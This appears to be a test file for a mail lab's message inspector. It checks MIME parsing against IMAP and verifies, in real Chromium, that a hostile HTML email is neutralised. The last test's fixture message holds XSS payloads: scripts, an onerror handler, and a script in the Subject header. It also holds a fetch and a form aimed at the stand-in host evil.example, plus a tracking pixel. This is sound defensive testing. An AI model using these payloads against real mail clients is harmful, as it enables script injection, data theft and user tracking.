@@ -1,0 +1,149 @@
+/**
+ * The message inspector in real Chromium: opened from the live Maildir view and from the link
+ * a terminal offers after "250 ... queued as"; its MIME tree is the BODYSTRUCTURE the IMAP
+ * server sends (fetched with imaplib); and a hostile message's HTML runs no script and loads
+ * nothing from the network — every request the page makes is intercepted and recorded, and the
+ * frame's Content-Security-Policy reports what it blocked to the lab.
+ */
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DEFAULT_SITE_DIR } from '../../lab-server/src/lab.js';
+import { python, run } from '../helpers/clients.js';
+import { launchBrowser, watchErrors } from '../helpers/browser.js';
+import { startTestLab, type TestLab } from '../helpers/lab.js';
+
+let lab: TestLab;
+let browser: Browser;
+beforeAll(async () => {
+  lab = await startTestLab({ siteDir: DEFAULT_SITE_DIR });
+  browser = await launchBrowser();
+}, 60_000);
+afterAll(async () => {
+  await browser?.close();
+  await lab?.dispose();
+});
+
+const url = (path: string): string => `http://127.0.0.1:${lab.httpPort}${path}`;
+const terminal = (page: Page, service: string) => page.locator(`.terminal[data-service="${service}"]`);
+
+async function typeLines(page: Page, service: string, lines: string[], expectAfter: RegExp): Promise<void> {
+  await terminal(page, service).locator('.screen').click();
+  for (const line of lines) {
+    await page.keyboard.type(line);
+    await page.keyboard.press('Enter');
+  }
+  await expect.poll(() => terminal(page, service).locator('.xterm-rows').innerText(), { timeout: 10_000 }).toMatch(expectAfter);
+}
+
+describe('the message inspector', () => {
+  it('opens a message from the Maildir view, and its MIME tree is the IMAP server\'s BODYSTRUCTURE', async () => {
+    const page = await browser.newPage();
+    const errors = watchErrors(page);
+    await page.goto(url('/en/lessons/storage-dns/'));
+    const file = page.locator('.maildir [data-file]').filter({ hasText: ',S=' }).nth(1);
+    await file.waitFor({ timeout: 15_000 });
+    const link = file.getByRole('link');
+    const href = await link.getAttribute('href');
+    expect(href).toMatch(/^\/en\/inspect\/\?user=bob%40example\.com&folder=INBOX&uid=2$/);
+    await link.click();
+    await page.waitForURL(/\/en\/inspect\//);
+    await page.getByRole('tab', { name: 'MIME tree' }).click();
+    const shown = await page.locator('[data-bodystructure]').innerText();
+    const r = await python(
+      `
+import imaplib
+i = imaplib.IMAP4('127.0.0.1', P['port']); i.login('bob@example.com', 'secret'); i.select('INBOX', readonly=True)
+typ, data = i.uid('FETCH', '2', '(BODYSTRUCTURE)')
+print(data[0].decode())
+i.logout()`,
+      { port: lab.port('imap') },
+    );
+    expect(r.stderr).toBe('');
+    expect(r.stdout).toContain(`BODYSTRUCTURE ${shown}`);
+    expect(await page.locator('[data-mime] [data-section="2"]').innerText()).toMatch(/text\/csv[\s\S]*attachment \(ports\.csv\)[\s\S]*a1 UID FETCH 2 BODY\[2\]/);
+    await page.getByRole('tab', { name: 'On disk' }).click();
+    expect(await page.locator('[data-filename]').innerText()).toMatch(/^\d+\.M\d+P\d+Q\d+\..+,S=\d+,W=\d+/);
+    expect(errors).toEqual([]);
+    await page.close();
+  }, 60_000);
+
+  it('opens a message from the link a terminal offers after "250 ... queued as"', async () => {
+    const page = await browser.newPage();
+    const errors = watchErrors(page);
+    await page.goto(url('/en/lab/?service=smtp'));
+    await terminal(page, 'smtp').and(page.locator('[data-state="open"]')).waitFor({ timeout: 15_000 });
+    await typeLines(page, 'smtp', ['EHLO browser.test', 'MAIL FROM:<alice@example.com>', 'RCPT TO:<bob@example.com>', 'DATA', 'Subject: =?UTF-8?B?5qOA5p+l?= from a terminal', '', 'Hello, inspector.', '.'], /250 2\.0\.0 Ok: queued as [0-9A-F]{10}/);
+    const queueId = /queued as ([0-9A-F]{10})/.exec(await terminal(page, 'smtp').locator('.xterm-rows').innerText())![1]!;
+    const link = terminal(page, 'smtp').getByRole('link', { name: queueId });
+    const [opened] = await Promise.all([page.context().waitForEvent('page'), link.click()]);
+    await opened.waitForLoadState();
+    expect(opened.url()).toMatch(new RegExp(`/en/inspect/\\?queue=${queueId}$`));
+    await expect.poll(() => opened.locator('[data-text]').innerText()).toContain('Hello, inspector.');
+    await opened.getByRole('tab', { name: 'Headers' }).click();
+    const subject = opened.getByRole('row', { name: /^Subject/ });
+    expect(await subject.innerText()).toMatch(/检查 from a terminal[\s\S]*decoded from: =\?UTF-8\?B\?5qOA5p\+l\?= from a terminal/);
+    expect(await opened.locator('.hops li').first().innerText()).toMatch(new RegExp(`mail\\.example\\.com[\\s\\S]*queue id ${queueId}`));
+    expect(errors).toEqual([]);
+    await page.close();
+    await opened.close();
+  }, 60_000);
+
+  it("a hostile message's HTML runs no script and loads nothing from the network; the CSP reports what it blocked", async () => {
+    const message = [
+      'Subject: <script>window.parent.pwned = 1</script> hostile',
+      'MIME-Version: 1.0',
+      'Content-Type: multipart/related; boundary="b"',
+      '',
+      '--b',
+      'Content-Type: text/html; charset=utf-8',
+      '',
+      '<h1 id="h">Hello</h1>',
+      '<img src="http://tracker.example/pixel.gif?who=bob" alt="">',
+      '<img src="cid:logo@here" alt="logo" id="logo">',
+      '<script>document.title = "pwned"; fetch("http://evil.example/steal")</script>',
+      '<img src="x" onerror="document.title=\'pwned\'">',
+      '<form action="http://evil.example/post"><input name="p"><button id="go">Go</button></form>',
+      '<link rel="stylesheet" href="http://evil.example/style.css">',
+      '--b',
+      'Content-Type: image/gif',
+      'Content-ID: <logo@here>',
+      'Content-Transfer-Encoding: base64',
+      '',
+      'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
+      '--b--',
+      '',
+    ].join('\r\n');
+    const send = await run('python3', ['-c', `import smtplib, sys\ns = smtplib.SMTP('127.0.0.1', ${lab.port('smtp')})\ns.ehlo('x.test'); s.mail('x@sender.test'); s.rcpt('bob@example.com')\nprint(s.data(sys.stdin.buffer.read())[1].decode())\ns.quit()`], message);
+    expect(send.stderr).toBe('');
+    const queueId = /queued as ([0-9A-F]{10})/.exec(send.stdout)![1]!;
+    const before = await (await fetch(url('/metrics'))).text();
+    const reported = (text: string): number => [...text.matchAll(/^maillab_csp_reports_total\{[^}]*\} (\d+)$/gm)].reduce((n, m) => n + Number(m[1]), 0);
+
+    const page = await browser.newPage();
+    const requests: string[] = [];
+    // Every request the page or its frame makes is intercepted: anything off the lab is refused and recorded.
+    await page.route('**/*', (route) => {
+      const u = route.request().url();
+      requests.push(u);
+      return u.startsWith(url('/')) || u.startsWith('data:') ? route.continue() : route.abort();
+    });
+    await page.goto(url(`/en/inspect/?queue=${queueId}`));
+    await page.locator('iframe').waitFor({ timeout: 15_000 });
+    expect(await page.locator('[data-remote]').innerText()).toMatch(/3 network reference\(s\) blocked[\s\S]*tracking pixels/);
+    const frame = page.frameLocator('iframe');
+    await expect.poll(() => frame.locator('#h').innerText()).toBe('Hello');
+    // The embedded (cid:) image is shown, inlined as data:.
+    await expect.poll(() => frame.locator('#logo').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
+    await frame.locator('#go').click().catch(() => undefined);
+    await page.waitForTimeout(500);
+    expect(await page.title()).not.toBe('pwned');
+    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
+    // The subject's <script> is shown as text.
+    await page.getByRole('tab', { name: 'Headers' }).click();
+    expect(await page.getByRole('row', { name: /^Subject/ }).innerText()).toContain('<script>window.parent.pwned = 1</script> hostile');
+    expect(requests.filter((u) => !u.startsWith(url('/')) && !u.startsWith('data:'))).toEqual([]);
+    // Chromium told the lab what the policy blocked.
+    await expect.poll(async () => reported(await (await fetch(url('/metrics'))).text()) - reported(before), { timeout: 10_000 }).toBeGreaterThan(0);
+    await page.close();
+  }, 60_000);
+});
